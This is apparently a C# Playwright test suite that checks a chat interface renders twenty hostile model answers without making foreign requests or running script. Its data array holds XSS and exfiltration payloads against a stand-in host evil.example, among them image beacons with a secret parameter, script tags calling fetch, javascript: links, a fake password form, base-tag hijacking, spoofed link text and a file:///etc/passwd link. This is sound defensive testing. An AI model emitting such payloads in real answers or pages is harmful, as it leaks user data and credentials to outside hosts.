using System.Collections.Concurrent;
using System.Globalization;
using Microsoft.Playwright;
using RootMas.Tests.Support;
using static Microsoft.Playwright.Assertions;

namespace RootMas.Tests.Web;

/// <summary>What a model says is hostile: nothing in it calls home, runs, or leads where it does not say.</summary>
[Collection(WebCollection.Name)]
public sealed class HostileAnswerTests(WebWorld world)
{
    private static readonly string[] Answers =
    [
        "![pixel](https://evil.example/pixel.png?secret=1)",
        "<img src=\"https://evil.example/i.png\" onerror=\"window.pwned=1\">",
        "<script>window.pwned=1; fetch('https://evil.example/s')</script>",
        "[click me](javascript:window.pwned=1)",
        "[click me](JaVaScRiPt&#58;window.pwned=1)",
        "[data](data:text/html,<script>window.pwned=1</script>)",
        "<iframe src=\"https://evil.example/frame\"></iframe>",
        "<style>body{background:url(https://evil.example/b.png)}</style>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
        "<form action=https://evil.example/><input name=password autofocus><button>Sign in</button></form>",
        "<svg><animate onbegin=window.pwned=1 attributeName=x></svg><svg onload=window.pwned=1>",
        "$$\\href{javascript:window.pwned=1}{x}$$ \\(\\includegraphics{https://evil.example/k.png}\\) $$\\htmlStyle{background:url(https://evil.example/h)}{x}$$",
        "$$\\def\\a{\\a\\a}\\a$$ $$\\rule{1000000em}{1000000em}$$",
        "```html\n<img src=https://evil.example/c.png onerror=window.pwned=1>\n```\n\n```<img/src=x>\ncode\n```",
        "[ref]: https://evil.example/r.png\n\n![x][ref] <https://evil.example/auto> https://evil.example/bare",
        "<a href=\"https://evil.example/\" ping=\"https://evil.example/ping\" onmouseover=\"window.pwned=1\">https://bank.example</a>",
        "| ![a](//evil.example/t.png) | <video src=//evil.example/v poster=//evil.example/p> |\n|---|---|\n| <object data=//evil.example/o> | <embed src=//evil.example/e> |",
        "[\u202Egpj.elgoog](https://evil.example/) \u0000 \uFFFE [x](//evil.example/protocol-relative) [y](/api/v1/auth/logout) [z](file:///etc/passwd)",
        "<math><mtext></mtext><mglyph><style><img src=https://evil.example/m onerror=window.pwned=1></style></math><base href=https://evil.example/>[^1]\n\n[^1]: ![f](https://evil.example/f.png)",
    ];

    [WebFact]
    public async Task Twenty_hostile_answers_cause_no_foreign_request_and_no_script()
    {
        Assert.Equal(20, Answers.Length);
        var page = await world.NewChatAsync();
        var own = world.App.Url.GetLeftPart(UriPartial.Authority);
        ConcurrentQueue<string> bad = [];
        page.Context.Request += (_, request) =>
        {
            if (!request.Url.StartsWith(own, StringComparison.Ordinal) && !request.Url.StartsWith("data:", StringComparison.Ordinal) && !request.Url.StartsWith("blob:", StringComparison.Ordinal))
            {
                bad.Enqueue(request.Url);
            }
        };
        page.Context.Page += (_, opened) => bad.Enqueue("opened " + opened.Url);
        page.Dialog += (_, dialog) => bad.Enqueue("dialog " + dialog.Message);
        page.FrameNavigated += (_, frame) => bad.Enqueue(frame.Url.StartsWith(own, StringComparison.Ordinal) ? "" : frame.Url);
        page.Console += (_, message) => bad.Enqueue(message.Text.Contains("Content Security Policy", StringComparison.Ordinal) ? message.Text : "");
        for (var i = 0; i < Answers.Length; i++)
        {
            var marker = string.Create(CultureInfo.InvariantCulture, $"Harmless end {i}.");
            world.Say($$"""default: { text: {{System.Text.Json.JsonSerializer.Serialize(Answers[i] + "\n\n" + marker)}} }""");
            await page.AskAsync(string.Create(CultureInfo.InvariantCulture, $"Hostile {i} {Answers[i].Replace("\0", "", StringComparison.Ordinal)}"), marker);
            await AssertHarmlessAsync(page, Answers[i]);
        }

        Assert.DoesNotContain(bad, static what => what.Length > 0);
        Assert.Equal(20, (await page.StoredAnswersAsync()).Count);
        await page.Context.CloseAsync();
    }

    private static async Task AssertHarmlessAsync(IPage page, string answer)
    {
        Assert.True(await page.EvaluateAsync<bool>("() => window.pwned === undefined"), answer);
        var found = await page.EvaluateAsync<string[]>(
            """
            () => {
              const log = document.querySelector('[role=log]');
              const bad = [...log.querySelectorAll('img, script, iframe, object, embed, video, audio, style, link, meta, base, article form, input, [style*="url("]')].map(e => e.outerHTML);
              for (const e of log.querySelectorAll('*')) {
                for (const a of e.attributes) if (/^on/i.test(a.name) || a.name === 'ping' || a.name === 'srcset') bad.push(`${a.name} of ${e.outerHTML}`);
              }
              for (const a of log.querySelectorAll('article a[target=_blank]')) {
                const url = new URL(a.href);
                if (!/^(https?|mailto):$/.test(url.protocol) || !a.rel.includes('noopener') || !a.rel.includes('noreferrer')) bad.push(a.outerHTML);
                if (!a.textContent.includes(url.host)) bad.push(`host hidden: ${a.outerHTML}`);
              }
              for (const a of log.querySelectorAll('article p a, article li a, article td a')) if (!a.target) bad.push(a.outerHTML);
              for (const e of log.querySelectorAll('article *')) if (e.getBoundingClientRect().width > 20000) { bad.push('huge: ' + e.className); break; }
              return bad;
            }
            """);
        Assert.True(found.Length == 0, answer + "\n" + string.Join('\n', found));
    }
}
